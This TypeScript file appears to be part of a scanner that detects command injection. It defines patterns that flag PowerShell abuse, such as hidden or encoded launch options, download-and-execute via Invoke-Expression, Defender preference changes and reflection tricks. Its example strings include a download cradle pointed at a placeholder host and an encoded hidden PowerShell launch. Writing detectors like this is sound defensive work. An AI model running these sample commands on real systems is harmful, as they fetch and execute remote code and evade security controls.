import { word } from "../keywords.ts";
import type { Pattern } from "../pattern.ts";
import {
  argumentKind,
  commandContext,
  ENDS,
  EXPANSION,
  FILE,
  nameEndsAt,
  NO_ARGUMENT,
  NOWHERE,
  OPTION,
  PATH,
  PIPE,
  QUOTED,
  SEMICOLON,
  URL,
} from "../shell_grammar.ts";
import { BOUND, type Tokens, WORD } from "../tokens.ts";

const IEX = word("iex"), DOWNLOADSTRING = word("downloadstring"), DOWNLOADFILE = word("downloadfile");
const NET = word("net"), SERVICE = word("service"), FROMBASE64STRING = word("frombase64string");
const DIAGNOSTICS = word("diagnostics"), REFLECTION = word("reflection"), INVOKE = word("invoke");
const EXPRESSION = word("expression"), START = word("start"), WMIMETHOD = word("wmimethod");
const CIMMETHOD = word("cimmethod"), WEBREQUEST = word("webrequest"), RESTMETHOD = word("restmethod");
const COMMAND = word("command"), PROCESS = word("process"), REMOVE = word("remove"), ITEM = word("item");
const NEW = word("new"), OBJECT = word("object"), SYSTEM = word("system"), SET = word("set");
const MPPREFERENCE = word("mppreference"), SCRIPTBLOCK = word("scriptblock"), STOP = word("stop");
const RESTART = word("restart"), GET = word("get"), ADD = word("add"), CONTENT = word("content");
const CHILDITEM = word("childitem"), COMPUTER = word("computer"), EXECUTIONPOLICY = word("executionpolicy");
const EXECUTIONCONTEXT = word("executioncontext"), INVOKESCRIPT = word("invokescript"), GCM = word("gcm");
const ASSEMBLY = word("assembly");
const SLASH = 0x2f, OPEN = 0x28, COLON = 0x3a, MINUS = 0x2d, DOT = 0x2e;
const POWERSHELL_OPTIONS = new Set(
  [
    "e",
    "ec",
    "enc",
    "encodedcommand",
    "nop",
    "noprofile",
    "noni",
    "noninteractive",
    "w",
    "windowstyle",
    "c",
    "command",
    "exec",
    "executionpolicy",
    "ep",
    "f",
    "file",
    "hidden",
  ].map(word),
);

function isPowerShell(t: Tokens, i: number): boolean {
  const behind = nameEndsAt(t, i);
  // Any of the first options: powershell -nop -w hidden -enc …
  for (let at = behind, n = 0; n < 3; n++, at += 3) {
    if ((t.kind[at] !== MINUS && t.kind[at] !== SLASH) || !t.glued(at + 1)) {
      return t.word[at] === IEX || (n === 0 && t.isQuote(at) && isDownload(t, at + 1));
    }
    if (POWERSHELL_OPTIONS.has(t.word[at + 1] as number)) return true;
  }
  return false;
}

function isDownload(t: Tokens, from: number): boolean {
  for (let at = from; at < from + 24; at++) if (t.word[at] === DOWNLOADSTRING || t.word[at] === IEX) return true;
  return false;
}

/** `Invoke-Expression …`, `Start-Process x.exe`, `Remove-Item -Recurse`, `[Diagnostics.Process]::Start(`. */
function isCmdlet(t: Tokens, i: number): boolean {
  const number = t.word[i] as number;
  // $ExecutionContext.InvokeCommand.InvokeScript('…'), &(gcm *ke-e*)
  if (number === EXECUTIONCONTEXT) return t.kind[i - 1] === 0x24 && t.kind[i + 1] === DOT;
  if (number === INVOKESCRIPT) return t.kind[i - 1] === DOT && t.kind[i + 1] === OPEN;
  if (number === GCM) {
    return t.kind[i - 1] === OPEN && (t.kind[i - 2] === 0x26 || t.kind[i - 2] === DOT) && t.spaced(i + 1);
  }
  // [Ref].Assembly.GetType('…')
  if (number === ASSEMBLY) {
    return t.kind[i - 1] === DOT && t.kind[i - 2] === 0x5d && t.glued(i) && t.kind[i + 1] === DOT;
  }
  if (number === FROMBASE64STRING) return t.kind[i - 1] === COLON && t.kind[i + 1] === OPEN;
  if (number === DIAGNOSTICS || number === REFLECTION || number === SCRIPTBLOCK) {
    // @(System.Diagnostics.Process.Start("cmd"))
    // A stack trace names the type of what it was called with: two words without a quote.
    if (t.word[i + 2] === PROCESS && t.word[i + 4] === START && t.kind[i + 5] === OPEN) {
      return t.kind[i + 7] !== WORD || t.kind[i + 6] !== WORD;
    }
    for (let at = i + 1; at < i + 8; at++) if (t.kind[at] === 0x5d) return t.kind[at + 1] === COLON;
    return false;
  }
  if (t.kind[i + 1] !== MINUS || !t.glued(i + 1) || !t.glued(i + 2)) return false;
  const noun = t.word[i + 2] as number;
  const argument = argumentKind(t, i + 3, SEMICOLON);
  // As PowerShell writes it: what follows need not look like an argument.
  const isCapital = isUpper(t, i) && isUpper(t, i + 2) && argument !== NO_ARGUMENT && argument !== ENDS;
  switch (number) {
    case INVOKE:
      if (noun === EXPRESSION || noun === WMIMETHOD || noun === CIMMETHOD) {
        return argument !== ENDS || t.kind[i - 1] === PIPE;
      }
      return (noun === WEBREQUEST || noun === RESTMETHOD || noun === COMMAND) &&
        (argument === URL || argument === OPTION || argument === QUOTED || argument === EXPANSION || isCapital);
    case START:
      return (noun === PROCESS || noun === SERVICE) &&
        (argument === FILE || argument === QUOTED || argument === OPTION || argument === PATH || isCapital);
    case STOP:
    case RESTART:
      return (noun === PROCESS || noun === SERVICE || noun === COMPUTER) && (isCapital || argument === OPTION);
    case GET:
      return (noun === CONTENT || noun === CHILDITEM || noun === PROCESS || noun === SERVICE || noun === ITEM) &&
        (argument === PATH || argument === OPTION) && isCapital;
    case REMOVE:
      return noun === ITEM && (argument === OPTION || argument === PATH || argument === QUOTED || isCapital);
    case NEW:
      if (noun !== OBJECT) return false;
      return argument === OPTION || ((t.word[i + 3] === NET || t.word[i + 3] === SYSTEM) && t.kind[i + 4] === DOT);
    case ADD:
    case SET:
      return noun === MPPREFERENCE || (noun === EXECUTIONPOLICY && isCapital);
  }
  return false;
}

/** `[IO.File]::ReadAllText(`: a method of .NET, but for those that only calculate and convert. */
function isStaticCall(t: Tokens, i: number): boolean {
  if (t.kind[i - 1] !== 0x5d || !t.glued(i) || t.kind[i + 1] !== COLON || !t.glued(i + 1)) return false;
  if (t.kind[i + 2] !== WORD || !t.glued(i + 2) || t.kind[i + 3] !== OPEN || !t.glued(i + 3)) return false;
  for (let at = i - 2; at > i - 14; at--) {
    const kind = t.kind[at] as number;
    if (kind === 0x5b) {
      // x[1]::text(3) is of PostgreSQL.
      return t.kind[at + 1] === WORD && !(t.glued(at) && t.kind[at - 1] === WORD) && isUpper(t, i + 2) &&
        !(at + 3 === i && CALCULATES.has(t.word[at + 1] as number));
    }
    if ((kind !== WORD && kind !== DOT) || !t.glued(at + 1)) return false;
  }
  return false;
}
const CALCULATES = new Set(["math", "int", "string", "char", "datetime", "timespan", "double", "convert"].map(word));

function isUpper(t: Tokens, i: number): boolean {
  const first = t.bytes[t.start[i] as number] as number;
  return first >= 0x41 && first <= 0x5a;
}

function isInvokeExpression(t: Tokens, i: number): boolean {
  if (t.word[i] === DOWNLOADSTRING || t.word[i] === DOWNLOADFILE) {
    return t.kind[i + 1] === OPEN && t.kind[i - 1] === DOT;
  }
  // iex "whoami"
  if (t.isQuote(i + 1) && t.spaced(i + 1)) return commandContext(t, i) !== NOWHERE;
  return (t.kind[i + 1] === OPEN && t.kind[i - 1] !== DOT) || (t.kind[i - 1] === PIPE && t.kind[i + 1] === BOUND);
}

/** PowerShell: its options, its cmdlets, what runs a download. */
export const POWERSHELL = {
  options: {
    name: "cmd-powershell",
    category: "command-injection",
    severity: "high",
    catches: "PowerShell with options that hide or encode what it runs",
    example: "powershell -nop -w hidden -enc SQBFAFgA",
    nearMiss: "the script needs powershell - see docs",
    at: ["powershell", "pwsh"].map(word),
    test: isPowerShell,
  },
  download: {
    name: "cmd-powershell-download",
    category: "command-injection",
    severity: "high",
    catches: "Invoke-Expression and WebClient, which run what they fetch",
    example: "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
    nearMiss: "iex is short for invoke expression",
    at: ["iex", "downloadstring", "downloadfile"].map(word),
    test: isInvokeExpression,
  },
  cmdlet: {
    name: "cmd-cmdlet",
    category: "command-injection",
    severity: "medium",
    catches: "Commands of PowerShell that fetch, start or remove, and calls of .NET that do",
    example: "Start-Process calc.exe",
    nearMiss: "start-process: heating; set-item 5; new-object",
    at: [
      "invoke",
      "start",
      "stop",
      "restart",
      "get",
      "add",
      "remove",
      "new",
      "set",
      "diagnostics",
      "reflection",
      "scriptblock",
      "frombase64string",
      "executioncontext",
      "invokescript",
      "gcm",
      "assembly",
    ].map(word),
    test: isCmdlet,
  },
  staticCall: {
    name: "cmd-static-call",
    category: "command-injection",
    severity: "medium",
    catches: "A method of a class of .NET, as PowerShell calls it",
    example: "[IO.File]::ReadAllText('C:/x')",
    nearMiss: "[Math]::Round(5.2) a[1]::text(3) [x]::y std::max(1)",
    at: ["::"],
    test: isStaticCall,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
